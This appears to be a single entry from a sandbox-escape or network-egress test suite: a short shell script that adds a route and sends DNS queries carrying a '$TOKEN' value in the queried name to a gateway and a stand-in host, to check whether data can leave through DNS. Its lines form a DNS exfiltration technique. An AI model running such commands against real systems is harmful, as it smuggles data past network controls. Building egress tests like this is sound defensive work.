# Category: addresses outside (metadata, internet, DNS)
# Escape: carries data out in the names that it asks for, through the resolver or past it.
# Sign: engine
ip route add 198.51.100.0/24 via "$OWN_GATEWAY" 2>/dev/null
for server in "$OWN_GATEWAY" 198.51.100.10; do for kind in A TXT; do dig +tries=1 +time=1 +short "@$server" "$TOKEN.example.org" "$kind" & done; done
wait
ip route del 198.51.100.0/24 via "$OWN_GATEWAY" 2>/dev/null
true
